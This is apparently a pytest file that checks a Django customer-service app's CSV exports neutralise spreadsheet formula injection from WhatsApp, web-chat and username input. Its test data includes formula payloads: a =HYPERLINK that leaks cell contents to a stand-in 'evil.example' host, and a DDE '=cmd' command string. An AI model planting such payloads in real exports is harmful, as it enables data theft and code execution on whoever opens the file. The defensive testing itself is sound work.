"""Customers' words that a spreadsheet would run reach every CSV export as text, and the JSONL exports exactly.

The payloads go in where customers write: the signed WhatsApp webhook and the web chat. The turns run (eager
Celery), the traces are exported as CSV and JSONL, and the dashboard's CSV carries a username written like a
formula. A CSV cell that starts with =, +, -, @, a tab or a carriage return starts with a single quote instead.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest
from django.urls import reverse

from core import clock
from core.csv_safe import FORMULA_STARTS, cell
from tests.support.factories import WEBHOOK_URL, sign
from tests.support.fake_graph import change_value, inbound_message, webhook_body
from traces.models import Trace
from traces.tests.turns import turn

pytestmark = pytest.mark.django_db

WEBHOOK_PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Factura")',
    "=cmd|'/C calc'!A0",
    "+58 412 000 0000 no me llega la factura",
    "-2+3 cuánto debo",
    "@SUM(1+1) mi saldo",
    "\t=1+1 hola",
    "\r=1+1 hola",
]
CHAT_PAYLOADS = ['=HYPERLINK("http://evil.example/?c="&B2,"Ver saldo")', "@cmd hola"]


@pytest.mark.parametrize("text, shown", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("hola =1", "hola =1"), ("", ""), ("'=already", "'=already"),
    (-3, -3), (2.5, 2.5), (None, None),
])
def test_a_cell_that_starts_like_a_formula_is_written_as_text(text, shown):
    assert cell(text) == shown


@pytest.fixture
def customers_wrote_formulas(client, settings, django_capture_on_commit_callbacks):
    """The payloads through the signed webhook (one sender each) and the web chat; every turn has run."""
    settings.WHATSAPP_APP_SECRET = "app-secret-for-tests"
    messages = [inbound_message(wa_id=f"58412000{n:04d}", wamid=f"wamid.FORMULA{n}", text={"body": text})
                for n, text in enumerate(WEBHOOK_PAYLOADS)]
    raw = json.dumps(webhook_body(change_value(messages=messages))).encode()
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(WEBHOOK_URL, data=raw, content_type="application/json",
                               HTTP_X_HUB_SIGNATURE_256=sign(raw))
    assert response.status_code == 200 and response.json()["stored"] == len(WEBHOOK_PAYLOADS)
    client.post(reverse("desk:chat"), {"customer_id": "C-1001", "language": "es"})
    for text in CHAT_PAYLOADS:
        with django_capture_on_commit_callbacks(execute=True):
            assert client.post(reverse("desk:chat"), {"text": text}).status_code == 302
    queries = set(Trace.objects.values_list("query", flat=True))
    # the web chat trims what the visitor typed; WhatsApp's text is kept as sent
    assert queries == set(WEBHOOK_PAYLOADS) | set(CHAT_PAYLOADS)
    return queries


@pytest.fixture
def analyst(client, make_staff):
    client.force_login(make_staff("luz", "analyst"))
    return client


def csv_rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode(), newline="")))


def test_the_trace_csv_shows_formulas_as_text_and_the_jsonl_keeps_them_exact(customers_wrote_formulas, analyst):
    rows = csv_rows(analyst.get(reverse("traces:export", args=["csv"])))
    header, body = rows[0], rows[1:]
    queries = [row[header.index("query")] for row in body]
    assert sorted(queries) == sorted("'" + text for text in customers_wrote_formulas)
    risky = [value for row in body for value in row if value.startswith(FORMULA_STARTS)]
    assert risky == []

    response = analyst.get(reverse("traces:export", args=["jsonl"]))
    lines = b"".join(response.streaming_content).decode().splitlines()
    assert {json.loads(line)["query"] for line in lines} == customers_wrote_formulas


def test_the_dashboard_csv_shows_a_formula_written_as_a_username_as_text(make_staff, analyst):
    agent = make_staff("=cmd|'/C calc'!A0", "agent")
    now = clock.now()
    turn(when=now - dt.timedelta(minutes=30), outcome="escalated", reason="USER_REQUEST", agent=agent,
         reply_after=dt.timedelta(minutes=3), route="")
    rows = csv_rows(analyst.get(reverse("dashboard:csv"), {"range": "today"}))
    assert ["agents", "'=cmd|'/C calc'!A0", "escalations_handled", "1"] in rows
    assert not [value for row in rows for value in row if value.startswith(FORMULA_STARTS)]
